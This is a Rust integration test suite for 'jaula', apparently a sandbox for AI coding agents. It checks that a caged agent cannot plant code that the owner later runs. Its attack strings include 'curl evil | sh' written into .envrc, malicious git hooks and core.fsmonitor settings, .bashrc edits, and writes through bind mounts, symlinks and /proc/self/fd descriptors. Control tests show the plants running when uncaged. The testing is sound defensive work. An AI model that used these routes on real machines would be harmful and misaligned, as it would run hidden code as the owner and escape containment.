//! The planting guard, live: code a caged agent plants for the owner to
//! run later, uncaged.
//!
//! For each backend and identity (root, and uid 65534): every protected file the fixture
//! holds cannot be written from inside the cage, a hook cannot be created, `.git` cannot
//! be renamed away or replaced, `git config --local` fails; git commit, branch, checkout,
//! merge and stash still work. Each verdict is judged on the host: the file's bytes, the
//! `.git` inode, no hook on disk. For every planted file an uncaged control, as the same
//! user, shows the owner's next step would run the planted code. Where a backend cannot
//! stop a creation (an absent protected path), the report line and the evidence record
//! are checked instead.

use crate::common;
use jaula_testkit::case_tests;

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::{cage_or_skip, jaula, scratch, skip_or_fail, User, HOST_PATH, NOBODY};

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
    repo: PathBuf,
    user: User,
}

/// Files the fixture holds that the guard protects, relative to the scratch root.
const PROTECTED_PRESENT: &[&str] = &[
    "repo/.git/config",
    "repo/.vscode/tasks.json",
    "repo/.claude/settings.json",
    "home/.gitconfig",
    "home/.bashrc",
    "home/.config/git/config",
    "home/.config/systemd/user/agent.service",
    "home/.config/tmux/tmux.conf",
    "home/.cargo/config.toml",
    "home/.claude/settings.json",
];

fn git(dir: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new("git");
    cmd.current_dir(dir)
        .args([
            "-c",
            "user.name=owner",
            "-c",
            "user.email=owner@example.invalid",
        ])
        .args(args);
    cmd
}

impl Fixture {
    fn new(name: &str, user: User) -> Fixture {
        let (dir, root) = scratch(&format!("planting-{name}-"));
        let home = root.join("home");
        let repo = root.join("repo");
        fs::create_dir_all(&repo).unwrap();
        for rel in PROTECTED_PRESENT
            .iter()
            .filter(|r| !r.starts_with("repo/.git/"))
        {
            let path = root.join(rel);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, format!("# owner's {rel}\n")).unwrap();
        }
        let f = Fixture {
            _dir: dir,
            root,
            home,
            repo,
            user,
        };
        fs::write(f.repo.join("file.txt"), "one\n").unwrap();
        user.own(&f.root);
        f.host_git(&["init", "-q", "-b", "main"]);
        f.host_git(&["add", "."]);
        f.host_git(&["commit", "-q", "-m", "init"]);
        f
    }

    /// git on the host, as the owner (the fixture's user).
    fn host_git(&self, args: &[&str]) -> Output {
        let mut cmd = git(&self.repo, args);
        self.as_owner(&mut cmd);
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn as_owner(&self, cmd: &mut Command) {
        cmd.env_clear()
            .env("PATH", HOST_PATH)
            .env("HOME", &self.home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("LC_ALL", "C");
        self.user.apply(cmd);
    }

    /// `sh -c script` in `jaula run --backend B`, in the repo, as the fixture's user.
    fn caged(&self, backend: &str, flags: &[&str], script: &str) -> Output {
        self.caged_command(backend, flags, script).output().unwrap()
    }

    /// `jaula run` of `script` in this fixture's repo and home, as its owner.
    fn caged_command(&self, backend: &str, flags: &[&str], script: &str) -> Command {
        let mut cmd = Command::new(jaula());
        cmd.args(["run", "--backend", backend])
            .args(flags)
            .arg("--repo")
            .arg(&self.repo)
            .arg("--home")
            .arg(&self.home)
            .args(["--", "/bin/sh", "-c", script])
            .current_dir(&self.repo);
        self.as_owner(&mut cmd);
        cmd
    }

    fn snapshot(&self) -> Vec<(PathBuf, Vec<u8>)> {
        PROTECTED_PRESENT
            .iter()
            .map(|rel| (self.root.join(rel), fs::read(self.root.join(rel)).unwrap()))
            .collect()
    }

    fn evidence(&self) -> Vec<serde_json::Value> {
        let log = self.home.join(".agents-city/.runtime/cage/planting.jsonl");
        fs::read_to_string(log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

fn backend_or_skip(backend: &str, user: User) -> bool {
    let f = Fixture::new("probe", user);
    cage_or_skip(backend, &f.caged(backend, &[], "true"))
}

/// An output's status, stdout and stderr, for a failure message.
use jaula_testkit::output::describe as text;

/// Inside a bwrap cage: every protected file stays as it was, no hook appears, `.git`
/// stays the same directory, and git's daily work succeeds.
fn bwrap_guard_holds(user: User) {
    if !backend_or_skip("bwrap", user) {
        return;
    }
    let f = Fixture::new("bwrap", user);
    let before = f.snapshot();
    let git_ino = fs::metadata(f.repo.join(".git")).unwrap().ino();

    // Each attack must fail on its own: the script stops at the first success.
    let attacks = [
        "git config --local core.fsmonitor 'touch $HOME/../fsmonitor-ran'",
        "echo 'touch $HOME/../hook-ran' > .git/hooks/pre-commit",
        "mv .git .git-away",
        "mkdir -p decoy/hooks && mv -T decoy .git",
        "rm -f .git/config",
        "echo evil >> .vscode/tasks.json",
        "echo evil >> .claude/settings.json",
        "echo evil >> \"$HOME/.gitconfig\"",
        "echo evil >> \"$HOME/.bashrc\"",
        "echo evil >> \"$HOME/.config/git/config\"",
        "echo evil >> \"$HOME/.config/systemd/user/agent.service\"",
        "echo evil >> \"$HOME/.config/tmux/tmux.conf\"",
        "echo evil >> \"$HOME/.cargo/config.toml\"",
        "echo evil >> \"$HOME/.claude/settings.json\"",
    ];
    for attack in attacks {
        let out = f.caged("bwrap", &[], attack);
        assert!(
            !out.status.success(),
            "{user:?} bwrap: `{attack}` succeeded: {}",
            text(&out)
        );
    }
    assert_eq!(f.snapshot(), before, "a protected file changed on the host");
    assert!(!f.repo.join(".git/hooks/pre-commit").exists());
    assert!(!f.repo.join(".git-away").exists());
    assert_eq!(fs::metadata(f.repo.join(".git")).unwrap().ino(), git_ino);
    assert!(!f.root.join("fsmonitor-ran").exists() && !f.root.join("hook-ran").exists());
    // Nothing left on the host for absent protected paths (no placeholders).
    for absent in [".envrc", ".mcp.json", ".idea", ".codex", ".cursor"] {
        assert!(
            !f.repo.join(absent).exists(),
            "{absent} appeared on the host"
        );
    }
    assert!(!f.home.join(".config/autostart").exists());
    // The decoy was made (the repo is writable) but could not take `.git`'s place.
    assert!(f.repo.join("decoy/hooks").is_dir());

    let work = "set -e
        git -c user.name=a -c user.email=a@b.invalid commit -q --allow-empty -m caged
        git branch topic
        git checkout -q topic
        echo two > file.txt
        git -c user.name=a -c user.email=a@b.invalid commit -qam topic
        git checkout -q main
        git -c user.name=a -c user.email=a@b.invalid merge -q --no-edit topic
        echo three > file.txt
        git stash -q
        git stash pop -q
        git -c user.name=a -c user.email=a@b.invalid commit -qam stashed";
    let out = f.caged("bwrap", &[], work);
    assert!(
        out.status.success(),
        "{user:?} bwrap: git work failed: {}",
        text(&out)
    );
    let log = f.host_git(&["log", "--oneline"]);
    assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 4);
    assert_eq!(
        fs::read_to_string(f.repo.join("file.txt")).unwrap(),
        "three\n"
    );
    assert_eq!(fs::metadata(f.repo.join(".git")).unwrap().ino(), git_ino);
}

jaula_testkit::as_each_user!(
    bwrap_guard_holds =>
    bwrap_guard_holds_as_root,
    bwrap_guard_holds_as_nobody
);

/// An absent protected path: neither backend can mount over it without leaving a
/// placeholder on the host, so the gate's supervisor refuses its creation, naming the
/// protection, and nothing appears on the host.
fn absent_path_is_refused(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    let f = Fixture::new(&format!("refuse-{backend}"), user);
    let envrc = f.repo.join(".envrc");
    for attack in [
        "echo 'curl evil | sh' > .envrc",
        "ln -s notes.txt .envrc",
        "mkdir .envrc",
        "echo x > staged && mv staged .envrc",
        "echo x > staged && ln staged .envrc",
    ] {
        let out = f.caged(backend, &[], attack);
        assert!(
            !out.status.success(),
            "{user:?} {backend}: `{attack}` succeeded"
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("jaula: refused ")
                && stderr.contains(&format!("{}: protected:", envrc.display())),
            "{user:?} {backend}: `{attack}`: {stderr}"
        );
        assert!(
            fs::symlink_metadata(&envrc).is_err(),
            "{attack}: .envrc on the host"
        );
    }
    assert!(
        f.evidence().is_empty(),
        "nothing changed, nothing to report"
    );
    // A run that touches nothing protected is not disturbed and reports nothing.
    let out = f.caged(backend, &[], "echo work > notes.txt && cat notes.txt");
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("jaula:"),
        "{}",
        text(&out)
    );
}

/// A tree prepared elsewhere cannot be renamed into a place where it would hold a
/// protected path, nor can a tree holding one be moved away: the rename names neither.
fn prepared_tree_cannot_be_renamed_into_place(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    let f = Fixture::new(&format!("holder-{backend}"), user);
    let claude = f.repo.join(".claude");
    for (attack, verb) in [
        ("mv .claude .claude-away", "rename of"),
        (
            "mkdir -p prep/hooks && echo 'touch $HOME/../hook-ran' > prep/hooks/h && \
             mv -T prep .claude",
            "rename onto",
        ),
    ] {
        let out = f.caged(backend, &[], attack);
        assert!(
            !out.status.success(),
            "{user:?} {backend}: `{attack}` succeeded"
        );
        let want = format!(
            "jaula: refused {verb} {}: it would hold the protected path",
            claude.display()
        );
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(&want),
            "{user:?} {backend}: `{attack}`: {want}\n{}",
            text(&out)
        );
    }
    assert!(claude.join("settings.json").is_file());
    assert!(!claude.join("hooks/h").exists());
    assert!(!f.repo.join(".claude-away").exists());
}

#[test]
fn landlock_refuses_renaming_a_prepared_tree_into_place() {
    prepared_tree_cannot_be_renamed_into_place("landlock", User::Nobody);
}

#[test]
fn bwrap_refuses_renaming_a_prepared_tree_into_place() {
    prepared_tree_cannot_be_renamed_into_place("bwrap", User::Root);
}

/// `sh -c script` in `jaula run --backend landlock EXTRA`, with the repo bind-mounted at
/// `alt` in a private mount namespace made for it (root only).
fn caged_under_another_mount(f: &Fixture, alt: &Path, extra: &str, script: &str) -> Output {
    let inner = format!(
        "mount --bind \"$1\" \"$2\" && exec \"$3\" run --backend landlock {extra} \
         --repo \"$1\" --home \"$4\" -- sh -c \"$5\"",
    );
    let mut cmd = Command::new("unshare");
    cmd.args(["-m", "--propagation", "private", "sh", "-c", &inner, "sh"])
        .arg(&f.repo)
        .arg(alt)
        .arg(jaula())
        .arg(&f.home)
        .arg(script)
        .current_dir(&f.repo);
    f.as_owner(&mut cmd);
    cmd.output().unwrap()
}

/// The repo reached through another mount (a bind mount of it elsewhere) is the same
/// files under other paths, and Landlock grants it the same: the gate knows the protected
/// files by identity, so `.git/config` and `.git/hooks` are refused there too. The control,
/// without the gate, shows the route writing the real `.git/config`. Root only: making the
/// bind mount (in a private mount namespace) needs it.
#[test]
fn landlock_refuses_a_protected_file_under_another_mount() {
    if !rustix::process::geteuid().is_root() {
        skip_or_fail("a bind mount needs root");
        return;
    }
    if !backend_or_skip("landlock", User::Root) {
        return;
    }
    let f = Fixture::new("other-mount", User::Root);
    let alt = f.root.join("alt");
    fs::create_dir_all(&alt).unwrap();
    let config = f.repo.join(".git/config");
    let before = fs::read(&config).unwrap();
    let run = |extra: &str| {
        let script = format!(
            "echo '[core] # planted' >> {alt}/.git/config; a=$?; \
             echo planted > {alt}/.git/hooks/pre-commit; b=$?; echo $a $b",
            alt = alt.display()
        );
        caged_under_another_mount(&f, &alt, extra, &script)
    };
    let out = run("");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "2 2",
        "{}",
        text(&out)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [
        format!(
            "jaula: refused write to {}/.git/config: it is within the protected path {} under another name",
            alt.display(),
            config.display()
        ),
        format!(
            "jaula: refused create of {}/.git/hooks/pre-commit: it is within the protected path {} under another name",
            alt.display(),
            f.repo.join(".git/hooks").display()
        ),
    ] {
        assert!(stderr.contains(&line), "{line}\n{stderr}");
    }
    assert_eq!(fs::read(&config).unwrap(), before);
    assert!(!f.repo.join(".git/hooks/pre-commit").exists());
    // The control: without the gate the same route writes the real files.
    let out = run("--no-socket-gate");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "0 0",
        "{}",
        text(&out)
    );
    assert!(fs::read_to_string(&config)
        .unwrap()
        .ends_with("[core] # planted\n"));
    assert!(f.repo.join(".git/hooks/pre-commit").is_file());
}

/// The same through another mount for a name on the way to a protected path: `.claude`
/// (of `.claude/settings.json`, absent) may not become a symlink through the bind mount
/// either, since the gate knows the name by its directory's identity and its own. The
/// control, without the gate, makes the link in the real repo. Root only, as above.
#[test]
fn landlock_refuses_a_symlink_on_the_way_under_another_mount() {
    if !rustix::process::geteuid().is_root() {
        skip_or_fail("a bind mount needs root");
        return;
    }
    if !backend_or_skip("landlock", User::Root) {
        return;
    }
    let f = Fixture::new("other-mount-on-the-way", User::Root);
    let alt = f.root.join("alt");
    fs::create_dir_all(&alt).unwrap();
    let link = f.repo.join(".claude");
    // No `.claude` at launch: the name, not a directory of the owner's, is what is known.
    let _ = fs::remove_dir_all(&link);
    let run = |extra: &str| {
        let script = format!("ln -s cl {alt}/.claude; echo $?", alt = alt.display());
        caged_under_another_mount(&f, &alt, extra, &script)
    };
    let out = run("");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "1",
        "{}",
        text(&out)
    );
    let line = format!(
        "jaula: refused create of {}/.claude: only a directory may stand on the way to the \
         protected path {}",
        alt.display(),
        f.repo.join(".claude/settings.json").display()
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&line),
        "{line}\n{}",
        text(&out)
    );
    assert!(fs::symlink_metadata(&link).is_err());
    // The control: without the gate the link lands in the real repo.
    let out = run("--no-socket-gate");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "0",
        "{}",
        text(&out)
    );
    assert!(fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
}

/// A protected path the owner also seals (`--deny ~/.bashrc`) is `/dev/null` in the bwrap
/// view: its identity must not make `/dev/null` itself a protected file.
#[test]
fn a_sealed_protected_file_does_not_protect_dev_null() {
    for backend in ["bwrap", "landlock"] {
        if !backend_or_skip(backend, User::Root) {
            continue;
        }
        let f = Fixture::new(&format!("sealed-protected-{backend}"), User::Root);
        let deny = format!("--deny={}", f.home.join(".bashrc").display());
        let out = f.caged(
            backend,
            &[&deny],
            "echo x > /dev/null && echo x >> /dev/null",
        );
        assert!(out.status.success(), "{backend}: {}", text(&out));
        let out = f.caged(backend, &[&deny], "echo evil >> \"$HOME/.bashrc\"");
        assert!(!out.status.success(), "{backend}: {}", text(&out));
    }
}

/// Without the gate (`--no-socket-gate`, the owner's explicit choice) the creation gets
/// through, and `jaula run` reports it after the command exits, with an evidence record.
fn absent_path_is_reported_without_the_gate(backend: &str, user: User) {
    if !backend_or_skip(backend, user) {
        return;
    }
    let f = Fixture::new(&format!("report-{backend}"), user);
    let out = f.caged(
        backend,
        &["--no-socket-gate"],
        "echo 'curl evil | sh' > .envrc",
    );
    assert!(out.status.success(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let envrc = f.repo.join(".envrc");
    assert!(
        stderr.contains(&format!(
            "jaula: protected path changed while the cage ran: {} (created;",
            envrc.display()
        )),
        "{stderr}"
    );
    let records = f.evidence();
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0]["path"], envrc.to_str().unwrap());
    assert_eq!(records[0]["change"], "created");
    assert_eq!(records[0]["source"], "repo-tool-settings");
}

case_tests! {
    bwrap_refuses_an_absent_protected_path_as_root => absent_path_is_refused("bwrap", User::Root);
    bwrap_refuses_an_absent_protected_path_as_nobody => absent_path_is_refused("bwrap", User::Nobody);
    landlock_refuses_an_absent_protected_path_as_root => absent_path_is_refused("landlock", User::Root);
    landlock_refuses_an_absent_protected_path_as_nobody => absent_path_is_refused("landlock", User::Nobody);
    bwrap_without_the_gate_reports_an_absent_protected_path => absent_path_is_reported_without_the_gate("bwrap", User::Root);
    landlock_without_the_gate_reports_an_absent_protected_path => absent_path_is_reported_without_the_gate("landlock", User::Nobody);
}

/// Natively the repo and `.git` are never split by Landlock (git could not commit), so the
/// gate's supervisor guards their protected names: git's own way of writing its config
/// (`config.lock` renamed over `config`), a rename of `.git`, an in-place write to
/// `.git/config`, its truncation, a second name for it, and a reopen of a read-only
/// descriptor for writing are all refused, naming the protection; home paths under a
/// split directory are refused by Landlock itself.
fn landlock_in_place_writes_are_refused(user: User) {
    if !backend_or_skip("landlock", user) {
        return;
    }
    let f = Fixture::new("landlock-dev", user);
    let config = f.repo.join(".git/config");
    let before = fs::read(&config).unwrap();
    let out = f.caged(
        "landlock",
        &[],
        "git config --local core.fsmonitor 'touch $HOME/../fsmonitor-ran'; r1=$?; \
         mv .git .git-away; r2=$?; [ $r1 -ne 0 ] && [ $r2 -ne 0 ]",
    );
    assert!(out.status.success(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    for line in [
        format!(
            "jaula: refused rename onto {}: protected:",
            config.display()
        ),
        format!(
            "jaula: refused rename of {}: protected:",
            f.repo.join(".git").display()
        ),
    ] {
        assert!(stderr.contains(&line), "{line}\n{stderr}");
    }
    assert!(f.repo.join(".git").is_dir() && !f.repo.join(".git-away").exists());

    for (attack, verb) in [
        (
            "printf '[core]\\n\\tfsmonitor = true\\n' >> .git/config",
            "write to",
        ),
        ("truncate -s 0 .git/config", "write to"),
        (
            "exec 3<.git/config && echo evil >/proc/self/fd/3",
            "write to",
        ),
        ("exec 3<.git/config && echo evil >/dev/fd/3", "write to"),
        ("ln .git/config cfg && echo evil >> cfg", "link of"),
        ("ln -s .git/config cfg2 && echo evil >> cfg2", "write to"),
        ("rm -f .git/config", "removal of"),
    ] {
        let out = f.caged("landlock", &[], attack);
        assert!(!out.status.success(), "{user:?}: `{attack}` succeeded");
        let want = format!("jaula: refused {verb} {}: protected:", config.display());
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(&want),
            "`{attack}`: {want}\n{}",
            text(&out)
        );
    }
    assert_eq!(
        fs::read(&config).unwrap(),
        before,
        "{user:?}: config changed"
    );
    assert!(f.evidence().is_empty(), "{:?}", f.evidence());

    for attack in [
        "echo evil >> \"$HOME/.claude/settings.json\"",
        "echo evil >> \"$HOME/.cargo/config.toml\"",
        "echo evil >> \"$HOME/.config/git/config\"",
        "echo evil >> \"$HOME/.bashrc\"",
    ] {
        let out = f.caged("landlock", &[], attack);
        assert!(
            !out.status.success(),
            "{user:?} landlock: `{attack}` succeeded"
        );
    }
}

jaula_testkit::as_each_user!(
    landlock_in_place_writes_are_refused =>
    landlock_in_place_writes_are_refused_as_root,
    landlock_in_place_writes_are_refused_as_nobody
);

/// `--unprotect` hands a path back: the owner's explicit choice, per path.
#[test]
fn unprotect_makes_one_path_writable_again() {
    if !backend_or_skip("bwrap", User::Root) {
        return;
    }
    let f = Fixture::new("unprotect", User::Root);
    let tasks = f.repo.join(".vscode/tasks.json");
    let flag = format!("--unprotect={}", f.repo.join(".vscode").display());
    let out = f.caged("bwrap", &[&flag], "echo owner-allowed > .vscode/tasks.json");
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(fs::read_to_string(&tasks).unwrap(), "owner-allowed\n");
    // The rest stays protected.
    let out = f.caged("bwrap", &[&flag], "echo evil >> .claude/settings.json");
    assert!(!out.status.success());
}

// ── Controls: uncaged, as the same user, the planted code runs at the owner's next step ──

fn control_plants_run(user: User) {
    let f = Fixture::new("control", user);
    let ran = |name: &str| f.root.join(format!("ran-{name}"));
    let hook = f.repo.join(".git/hooks/pre-commit");
    let plant = |path: &Path, text: String| {
        fs::write(path, text).unwrap();
        if user == User::Nobody {
            std::os::unix::fs::lchown(path, Some(NOBODY), Some(NOBODY)).unwrap();
        }
    };

    // A pre-commit hook runs at the owner's next `git commit`.
    plant(
        &hook,
        format!("#!/bin/sh\ntouch {}\n", ran("hook").display()),
    );
    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    f.host_git(&["commit", "-q", "--allow-empty", "-m", "owner"]);
    assert!(
        ran("hook").exists(),
        "{user:?}: the planted hook did not run"
    );
    fs::remove_file(&hook).unwrap();

    // core.fsmonitor in .git/config runs at the owner's next `git status`.
    let config = f.repo.join(".git/config");
    let original = fs::read_to_string(&config).unwrap();
    plant(
        &config,
        format!(
            "{original}[core]\n\tfsmonitor = \"touch {}; false\"\n",
            ran("fsmonitor").display()
        ),
    );
    f.host_git(&["status", "--short"]);
    assert!(
        ran("fsmonitor").exists(),
        "{user:?}: core.fsmonitor did not run"
    );
    plant(&config, original);

    // An alias in ~/.gitconfig runs when the owner types it.
    plant(
        &f.home.join(".gitconfig"),
        format!("[alias]\n\tst = \"!touch {}\"\n", ran("alias").display()),
    );
    f.host_git(&["st"]);
    assert!(
        ran("alias").exists(),
        "{user:?}: the planted alias did not run"
    );

    // ~/.bashrc runs at the owner's next interactive shell.
    plant(
        &f.home.join(".bashrc"),
        format!("touch {}\n", ran("bashrc").display()),
    );
    let mut bash = Command::new("bash");
    bash.args(["-i", "-c", "true"]).current_dir(&f.home);
    f.as_owner(&mut bash);
    let _ = bash.output().unwrap();
    assert!(
        ran("bashrc").exists(),
        "{user:?}: the planted .bashrc did not run"
    );
}

jaula_testkit::as_each_user!(
    control_plants_run =>
    control_planted_code_runs_uncaged_as_root,
    control_planted_code_runs_uncaged_as_nobody
);

/// `jaula explain` names the protection and its reason, for a file, a hook and the entry.
#[test]
fn explain_names_the_protection_and_its_reason() {
    let f = Fixture::new("explain", User::Root);
    for (path, flag, want) in [
        (
            f.repo.join(".git/hooks/pre-commit"),
            "--create",
            "(git hooks: run by the owner's next commit, checkout or merge)",
        ),
        (
            f.repo.join(".git"),
            "--write",
            "(git directory: cannot be renamed, removed or replaced; its contents stay writable)",
        ),
        (
            f.home.join(".bashrc"),
            "--write",
            "protected: ~/.bashrc (shell startup file: run by the owner's next shell)",
        ),
    ] {
        let mut cmd = Command::new(jaula());
        cmd.args(["explain", flag, "--repo"])
            .arg(&f.repo)
            .arg("--home")
            .arg(&f.home)
            .arg(&path);
        f.as_owner(&mut cmd);
        let out = cmd.output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{}", text(&out));
        assert!(stdout.contains("decision: denied"), "{stdout}");
        assert!(stdout.contains(want), "{stdout}");
    }
    // Beneath the entry, git's own work is allowed.
    let mut cmd = Command::new(jaula());
    cmd.args(["explain", "--create", "--repo"])
        .arg(&f.repo)
        .arg("--home")
        .arg(&f.home)
        .arg(f.repo.join(".git/index.lock"));
    f.as_owner(&mut cmd);
    let out = cmd.output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("decision: allowed"));
}

/// A dotfiles symlink: its target cannot be written, and the link cannot be replaced
/// (bwrap cannot mount onto the link itself; the gate refuses its removal).
#[test]
fn a_symlinked_dotfile_target_is_read_only_and_the_link_cannot_be_replaced() {
    if !backend_or_skip("bwrap", User::Root) {
        return;
    }
    let f = Fixture::new("symlink", User::Root);
    let dotfiles = f.root.join("dotfiles/nvim");
    fs::create_dir_all(&dotfiles).unwrap();
    fs::write(dotfiles.join("init.lua"), "-- owner\n").unwrap();
    fs::create_dir_all(f.home.join(".config")).unwrap();
    let link = f.home.join(".config/nvim");
    std::os::unix::fs::symlink(&dotfiles, &link).unwrap();
    let out = f.caged("bwrap", &[], "echo evil >> \"$HOME/.config/nvim/init.lua\"");
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(
        fs::read_to_string(dotfiles.join("init.lua")).unwrap(),
        "-- owner\n"
    );
    let out = f.caged(
        "bwrap",
        &[],
        "rm \"$HOME/.config/nvim\" && mkdir \"$HOME/.config/nvim\"",
    );
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&format!(
            "jaula: refused removal of {}: protected:",
            link.display()
        )),
        "{}",
        text(&out)
    );
    assert!(fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    if backend_or_skip("landlock", User::Root) {
        let out = f.caged("landlock", &[], "rm \"$HOME/.config/nvim\"");
        assert!(!out.status.success(), "{}", text(&out));
        assert!(fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink());
    }
}

/// jaula waits for the cage instead of becoming it: SIGTERM sent to jaula still reaches
/// the caged command, and jaula leaves as the command did. Under bwrap the signal has to
/// get past bubblewrap, whose monitor dies of it without passing it on and whose init
/// ignores it: the command's trap answering, and jaula leaving with the trap's status,
/// prove it arrived (before, jaula died of the signal and the command ran on, orphaned).
/// The signal is sent the moment the command is up, several times over: the supervisor
/// once blocked it only after the command had started, and about one SIGTERM in thirty
/// killed it instead (caught by CI). `--network allow`, where the proxy's process waits,
/// holds the signals from before the spawn in the same way.
#[test]
fn sigterm_to_jaula_reaches_the_caged_command() {
    for backend in ["landlock", "bwrap"] {
        if !backend_or_skip(backend, User::Root) {
            continue;
        }
        let f = Fixture::new("sigterm", User::Root);
        for round in 0..SIGTERM_ROUNDS {
            sigterm_once(&f, backend, &[], round);
        }
        for round in 0..SIGTERM_ROUNDS / 3 {
            sigterm_once(&f, backend, &["--network", "allow"], round);
        }
    }
}

const SIGTERM_ROUNDS: usize = 12;

/// One round: the command traps TERM, says it is ready and waits on a `cat` of the
/// test's stdin (no timer: the `cat` ends when the test closes that pipe, after jaula has
/// left, and with it the output the test reads to its end).
fn sigterm_once(f: &Fixture, backend: &str, extra: &[&str], round: usize) {
    use std::io::Read;
    // The stdin is held apart, or `wait` below would close it first.
    let jaula_testkit::Ready {
        mut child,
        stdin,
        mut stdout,
    } = jaula_testkit::spawn_ready(
        &mut f.caged_command(
            backend,
            extra,
            "exec 9<&0; trap 'echo term; exit 3' TERM; echo ready; cat <&9 & wait",
        ),
        "ready",
    );
    let pid = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(
        status.code(),
        Some(3),
        "{backend} {extra:?}, round {round}: {status}"
    );
    drop(stdin);
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "term\n", "{backend} {extra:?}, round {round}");
}

/// `-v` ends with what the socket gate's supervisor answered: three write-opens of named
/// files (`notes.txt`, `.envrc`, `/dev/null`), one refused (`.envrc`, a protected name in
/// the repo), and a connect to a host socket outside the policy, refused.
#[test]
fn verbose_counts_what_the_gate_answered() {
    for backend in ["landlock", "bwrap"] {
        if !backend_or_skip(backend, User::Root) {
            continue;
        }
        let f = Fixture::new("gate-counts", User::Root);
        let host_socket = f.root.join("host.sock");
        let _listener = std::os::unix::net::UnixListener::bind(&host_socket).unwrap();
        let script = format!(
            "echo x > notes.txt; echo y > .envrc; \
             python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{}\")' \
             2>/dev/null; true",
            host_socket.display()
        );
        let out = f.caged(backend, &["-v"], &script);
        assert!(out.status.success(), "{backend}: {}", text(&out));
        let stderr = String::from_utf8_lossy(&out.stderr);
        let line = stderr
            .lines()
            .find(|l| l.starts_with("jaula: socket gate: "))
            .unwrap_or_else(|| panic!("{backend}: no gate line: {stderr}"));
        assert_eq!(
            line,
            "jaula: socket gate: answered 1 connect(s), 0 bind(s) and 3 call(s) on named \
             files; refused 2",
            "{backend}"
        );
        assert!(!f.repo.join(".envrc").exists(), "{backend}");
        assert_eq!(fs::read_to_string(f.repo.join("notes.txt")).unwrap(), "x\n");
    }
}

/// The owner's hooks reached another way: a `core.hooksPath` directory (the repo's own,
/// husky style, or a global one in the home), a hook hard linked to a file outside the
/// hooks directory, and a hook that is a symlink to one. Each was a route for a red-team
/// plant; `(name, owner's setup, the cage's write, the planted file)`.
type HookRoute = (&'static str, fn(&Fixture), &'static str, &'static str);

const HOOK_ROUTES: &[HookRoute] = &[
    (
        "hookspath",
        |f| {
            fs::create_dir_all(f.repo.join(".githooks")).unwrap();
            f.host_git(&["config", "core.hooksPath", ".githooks"]);
        },
        ".githooks/pre-commit",
        "repo/.githooks/pre-commit",
    ),
    (
        "globalhp",
        |f| {
            fs::create_dir_all(f.home.join(".config/githooks")).unwrap();
            let global = f.home.join(".gitconfig");
            let text = fs::read_to_string(&global).unwrap();
            let text = format!("{text}[core]\n\thooksPath = ~/.config/githooks\n");
            fs::write(global, text).unwrap();
        },
        "$HOME/.config/githooks/pre-commit",
        "home/.config/githooks/pre-commit",
    ),
    (
        "hardhook",
        |f| {
            let script = f.repo.join("scripts/pre-commit");
            fs::create_dir_all(script.parent().unwrap()).unwrap();
            fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
            fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
            fs::hard_link(&script, f.repo.join(".git/hooks/pre-commit")).unwrap();
        },
        "scripts/pre-commit",
        "repo/scripts/pre-commit",
    ),
    (
        "symhook",
        |f| {
            let script = f.repo.join("scripts/pre-commit");
            fs::create_dir_all(script.parent().unwrap()).unwrap();
            fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
            fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
            std::os::unix::fs::symlink(
                "../../scripts/pre-commit",
                f.repo.join(".git/hooks/pre-commit"),
            )
            .unwrap();
        },
        "scripts/pre-commit",
        "repo/scripts/pre-commit",
    ),
];

/// A fixture with one route's setup, and the shell line that plants through it.
fn hook_route(route: &HookRoute, tag: &str, user: User) -> (Fixture, String, PathBuf) {
    let (name, setup, write, _) = route;
    let f = Fixture::new(&format!("{name}-{tag}"), user);
    setup(&f);
    user.own(&f.root);
    let ran = f.root.join(format!("ran-{name}"));
    let attack = format!(
        "printf '#!/bin/sh\\ntouch {}\\n' > {write} && chmod +x {write}",
        ran.display()
    );
    (f, attack, ran)
}

